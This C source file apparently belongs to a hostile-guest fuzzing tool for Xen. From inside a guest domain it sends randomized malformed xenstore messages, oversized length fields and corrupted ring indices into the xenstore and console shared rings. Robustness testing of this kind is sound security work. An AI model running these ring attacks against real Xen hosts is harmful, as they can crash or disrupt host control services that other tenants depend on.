/* Attacks on the two rings that a domain is born with, from which there is no way back. */
#include "hostile.h"

#define TRIES 200

/* Sends bytes into the store's ring; false when it does not read them any more. */
static bool send(struct xenstore_domain_interface *ring, const char *data, size_t length)
{
    unsigned tries = 0;

    for (size_t i = 0; i < length && tries < TRIES;) {
        if (ring->req_prod - __atomic_load_n(&ring->req_cons, __ATOMIC_ACQUIRE) <
            XENSTORE_RING_SIZE) {
            ring->req[ring->req_prod % XENSTORE_RING_SIZE] = data[i++];
            __atomic_store_n(&ring->req_prod, ring->req_prod + 1, __ATOMIC_RELEASE);
            tries = 0;
        } else {
            tries++;
            event_send(start_info->store_evtchn);
            give_way();
        }
        __atomic_store_n(&ring->rsp_cons, ring->rsp_prod, __ATOMIC_RELEASE);
    }
    event_send(start_info->store_evtchn);
    return tries < TRIES;
}

static const char *path(void)
{
    static const char *const paths[] = {"data",
                                        "data/x",
                                        "/local/domain/0/name",
                                        "/local/domain/0/backend",
                                        "/",
                                        "device",
                                        "control/shutdown",
                                        "@releaseDomain",
                                        "//",
                                        "memory/target"};

    return paths[below(sizeof(paths) / sizeof(paths[0]))];
}

void store_attack(unsigned messages)
{
    struct xenstore_domain_interface *ring = pfn_to_virt(mfn_to_pfn(start_info->store_mfn));
    static char message[sizeof(struct xsd_sockmsg) + 512];
    struct xsd_sockmsg *header = (struct xsd_sockmsg *)message;
    bool reads = true;

    for (; messages > 0 && reads; messages--) {
        const char *first = path();
        size_t length = strlen(first) + 1, extra = below(100);

        fill(message, sizeof(message));
        memcpy(header + 1, first, length);
        header->type = once_in(40) ? (uint32_t)any() : below(24);
        header->tx_id = once_in(4) ? below(20) : 0;
        header->len = (uint32_t)(length + extra);
        made++;
        reads = send(ring, message, sizeof(*header) + header->len);
    }
    if (once_in(2)) {
        header->len = 1 << 20;
        send(ring, message, sizeof(message));
    }
    for (unsigned i = 0; i < 50; i++) {
        ring->req_prod = (uint32_t)any();
        ring->rsp_cons = (uint32_t)any();
        event_send(start_info->store_evtchn);
        give_way();
    }
}

void console_ring_attack(void)
{
    struct xencons_interface *ring = pfn_to_virt(mfn_to_pfn(start_info->console.domU.mfn));

    /* What was printed shall be read before. */
    for (unsigned i = 0; i < TRIES && ring->out_cons != ring->out_prod; i++)
        time_sleep(MILLISECONDS);
    for (unsigned i = 0; i < 50; i++) {
        fill(ring->out, sizeof(ring->out));
        ring->out_prod = (uint32_t)any();
        ring->in_cons = (uint32_t)any();
        event_send(start_info->console.domU.evtchn);
        give_way();
    }
}
